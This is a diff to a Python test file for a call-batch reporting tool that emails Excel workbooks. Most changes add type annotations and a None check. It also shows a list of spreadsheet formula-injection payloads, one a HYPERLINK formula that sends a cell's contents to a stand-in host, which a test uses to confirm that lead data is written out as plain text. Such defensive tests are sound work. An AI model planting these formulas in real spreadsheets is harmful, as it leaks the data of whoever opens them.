@@ -16,6 +16,7 @@ from openpyxl.workbook import Workbook
 from batchctl.report.key_columns import MAX_HEADER_CHARS
 from batchctl.report.workbook import MAX_CONTEXT_COLUMNS
 from report_helpers import (
+    Attempt,
     attachment,
     batch_row,
     built_workbook,
@@ -49,7 +50,7 @@ def test_the_workbook_s_numbers_equal_batch_status_and_the_call_logs(
     options = {**NOW, "report_to": OPS, "retry_on": ["busy"], "max_attempts": 2,
                "retry_delay_s": 0}  # fmt: skip
     batch = api.create_batch(tenant, leads, options)
-    script = {
+    script: dict[str, list[Attempt]] = {
         "+14155550000": [("ended", {"duration_seconds": 30, "summary": "booked a demo",
                                     "analysis": {"interest": "high", "score": 9}})],
         "+14155550001": [("busy", {}), ("ended", {"duration_seconds": 12.5,
@@ -67,7 +68,9 @@ def test_the_workbook_s_numbers_equal_batch_status_and_the_call_logs(
     (mail,) = sink.wait_for(1)
     assert mail.recipients == OPS and mail.sender == "reports@test"
     assert str(batch) in mail.message["Subject"] and "completed" in mail.message["Subject"]
-    body = mail.message.get_body(("plain",)).get_content()
+    plain = mail.message.get_body(("plain",))
+    assert plain is not None
+    body = plain.get_content()
     assert "completed: 3 (50.0%)" in body and "Calls: 8, attempt 1: 6, attempt 2: 2" in body
     filename, data = attachment(mail)
     assert filename == f"batch-{batch}.xlsx"
@@ -309,7 +312,7 @@ HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1)", "+1
 
 def test_hostile_lead_data_comes_out_as_text(db_url: str, api: SqlApi, sink: SmtpSink) -> None:
     tenant = api.create_tenant()
-    leads = [
+    leads: list[dict[str, Any]] = [
         {"to_phone": f"+1415555{i:04d}", "lead_name": text, "lead_id": text,
          "context": {"note": text}}
         for i, text in enumerate(HOSTILE)
